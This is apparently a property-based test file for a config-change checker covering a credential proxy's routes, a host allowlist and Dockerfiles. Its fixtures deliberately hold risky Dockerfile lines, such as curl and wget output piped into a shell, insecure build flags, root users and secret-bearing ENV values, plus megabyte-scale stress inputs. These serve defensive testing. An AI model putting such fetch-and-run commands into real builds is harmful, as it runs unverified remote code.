import { MAX_CONFIG_FILE_BYTES, MAX_MARKS } from "../../internal_mod.ts";
import {
  marksFor,
  type Tool,
  TOOL_CAPABILITY_BLOCK,
  TOOL_CRED_PROXY_BLOCK,
  TOOL_PIPELOCK_BLOCK,
} from "../../mod.ts";
import { anyFile, anyRecordFile, anyText, textOf } from "../support/arbitraries.ts";
import { attempt, documented } from "../support/documented.ts";
import { holds } from "../support/properties.ts";
import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";

const ROUTES = `{"routes": [
  {"path": "/a/", "upstream": "https://a.example", "auth_scheme": "Bearer", "token_ref": "t"},
  {"path": "/b/", "upstream": "http://[::1]:80/x", "role": ["npm-registry"]}
]}\n`;

const ALLOWLIST = "# hosts\napi.github.com\n*.example.org\nxn--bcher-kva.example\r\npastebin.com\n";

const DOCKERFILE = `# syntax=evil/builder
ARG BASE=debian
FROM \${BASE:-x} AS one
USER root
RUN --security=insecure --network=host curl https://x.example | sh \\
  && bash <(wget -O- x)
RUN <<-EOF
\tcurl x |
\tsh
\tEOF
ADD https://x.example/a /a
ENV A_TOKEN="x y" B_SECRET='z'
ONBUILD RUN sh -c "$(curl x)"
FROM one
USER agent
`;

const hosts = [..."\n\r\t #*.-:/[]", "a", "github", "com", "g1thub", "rn", "xn--", "ngrok.io", "1"];

// deno-fmt-ignore
const words = [
  ..."\n\\\"'`$|&;<>(){}=:@#- ", "curl ", "sh", "bash", " | ", "$(", "<(", "python3 -", "-c ", "exec(",
  "https://", "FROM ", "RUN ", "USER ", "ENV ", "ARG ", "ADD ", "ONBUILD ", "root", "A_KEY=", "<<EOF\n",
  "\nEOF\n", "--security=insecure ", "debian", ":latest", "@sha256:", "AS b", "# syntax=", "ghp_", "\\\n",
];

const text = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);

const FILES: readonly (readonly [Tool, string, fc.Arbitrary<string>])[] = [
  [TOOL_CRED_PROXY_BLOCK, ROUTES, anyRecordFile(fc.constant(ROUTES)).map(text)],
  [
    TOOL_PIPELOCK_BLOCK,
    ALLOWLIST,
    fc.oneof(anyFile(fc.constant(ALLOWLIST)).map(text), textOf(...hosts)),
  ],
  [
    TOOL_CAPABILITY_BLOCK,
    DOCKERFILE,
    fc.oneof(
      anyFile(fc.constant(DOCKERFILE)).map(text),
      textOf(...words).map((more) => `FROM a:1\n${more}`),
    ),
  ],
];

for (const [tool, sound, files] of FILES) {
  const any = fc.oneof({ weight: 9, arbitrary: files }, anyText);

  Deno.test(`marksFor() answers any two files of ${tool} in printable ASCII, with lines of theirs`, () => {
    const contract = documented("src/config/compare.ts", "marksFor");
    const current = fc.oneof(fc.constantFrom(null, "", sound), any);
    holds(
      fc.property(current, any, (current, proposed) => {
        const marks = attempt(contract, () => marksFor(tool, current, proposed))!;
        assert(marks.length <= MAX_MARKS + 1);
        for (const { rule, message, side, line } of marks) {
          assert(/^[a-z]+(?:-[a-z]+)+$|^secret$/.test(rule), rule);
          assert(/^[ -~]+(?:[^.]|"\.{3})$/.test(message), message);
          const lines = (side === "new" ? proposed : current!).split("\n").length;
          assert(line >= 1 && line <= lines, `line ${line} of ${lines}`);
        }
      }),
      1500,
    );
  });

  Deno.test(`marksFor() notices nothing in a file of ${tool} that does not change`, () => {
    holds(fc.property(any, (file) => assertEquals(marksFor(tool, file, file), [])), 500);
  });

  Deno.test(`marksFor() needs no other file of ${tool} to notice what a sound one has`, () => {
    assert(marksFor(tool, null, sound).length >= 2);
  });
}

Deno.test("marksFor() does not care in which order an allowlist stands, nor what is commented", () => {
  const lines = ALLOWLIST.split("\n");
  const order = fc.shuffledSubarray(lines, { minLength: lines.length });
  const comment = fc.string({ unit: fc.constantFrom(..."#*.a evil.example") });
  holds(fc.property(order, comment, (order, comment) => {
    const proposed = [`# ${comment}`, ...order, ""].join("\n");
    assertEquals(marksFor(TOOL_PIPELOCK_BLOCK, ALLOWLIST, proposed), []);
  }));
});

/** As many copies as fit into a file, each with its number. */
function fill(unit: (n: number) => string, before = "", after = ""): string {
  const lines = [before];
  let length = before.length + after.length;
  for (let n = 0;; n++) {
    const line = unit(n);
    length += line.length;
    if (length > MAX_CONFIG_FILE_BYTES) return lines.join("") + after;
    lines.push(line);
  }
}

const label = (n: number, length: number) => n.toString(36).padStart(length, "qzxjkvbw");

const route = (n: number) =>
  `{"path":"/${n}","upstream":"http://${label(n, 8)}.com","auth_scheme":"a","token_ref":"${n}"},\n`;

const last = '{"path":"/z","upstream":"https://z.example"}]}';

/** What each takes time linear in, or no test would end. */
const HOSTILE: readonly (readonly [what: string, tool: Tool, current: string, proposed: string])[] =
  [
    [
      "hosts of one long label",
      TOOL_PIPELOCK_BLOCK,
      fill((n) => `${label(n, 32)}.com\n`),
      fill((n) => `${label(n, 31)}x.com\n`),
    ],
    [
      "hosts of many labels",
      TOOL_PIPELOCK_BLOCK,
      fill((n) => `${label(n, 5)}.a.a\n`),
      fill((n) => `${"a.".repeat(120)}${label(n, 5)}.a\n`),
    ],
    [
      "wildcards",
      TOOL_PIPELOCK_BLOCK,
      fill((n) => `${n}.example\n`),
      fill((n) => `*.${n}.example\n`),
    ],
    [
      "routes",
      TOOL_CRED_PROXY_BLOCK,
      fill(route, '{"routes":[', last),
      fill((n) => route(n * 7), '{"routes":[', last),
    ],
    ["brackets", TOOL_CRED_PROXY_BLOCK, "", "[".repeat(500_000) + "]".repeat(500_000)],
    ...[
      ["pipes", (n: number) => `curl x${n} | sh \\\n|`],
      ["open brackets", () => "(((((((((((((((( \\\n"],
      ["backticks", () => "`curl ` ` \\\n"],
      ["URLs", () => "a https://x \\\n", "ADD "],
      ["flags", () => "--security=insecure \\\n"],
      ["variables", (n: number) => `A${n}_KEY=x \\\n`, "ENV "],
      ["semicolons", () => ";;&;;;;;;;;;;a \\\n"],
      ["code", () => "python -c exec \\\n"],
    ].map(([what, unit, before = "RUN "]) =>
      [
        `${what} in one instruction`,
        TOOL_CAPABILITY_BLOCK,
        "FROM a:1\n",
        fill(unit as (n: number) => string, `FROM a:1\n${before}`),
      ] as [string, Tool, string, string]
    ),
    [
      "a heredoc",
      TOOL_CAPABILITY_BLOCK,
      "FROM a:1\n",
      fill((n) => `curl ${n} | sh\n`, "FROM a:1\nRUN <<E\n", "E\n"),
    ],
    [
      "stages",
      TOOL_CAPABILITY_BLOCK,
      "FROM a:1\n",
      `FROM a:1 AS s0\n${
        Array.from({ length: 990 }, (_, n) => `FROM s${n} AS s${n + 1}\n`).join("")
      }`,
    ],
  ];

for (const [what, tool, current, proposed] of HOSTILE) {
  // Threat: A10
  Deno.test(`marksFor() comes to an end with a megabyte of ${what}`, () => {
    assert(marksFor(tool, current, proposed).length <= MAX_MARKS + 1);
    assert(marksFor(tool, null, proposed).length <= MAX_MARKS + 1);
  });
}
